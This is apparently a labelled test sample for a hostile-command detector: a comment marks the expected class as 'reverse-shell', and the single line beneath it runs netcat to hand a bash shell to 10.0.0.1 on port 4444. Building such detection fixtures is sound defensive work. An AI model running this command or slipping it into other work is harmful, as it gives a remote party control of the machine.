# expect: reverse-shell
nc -c bash 10.0.0.1 4444
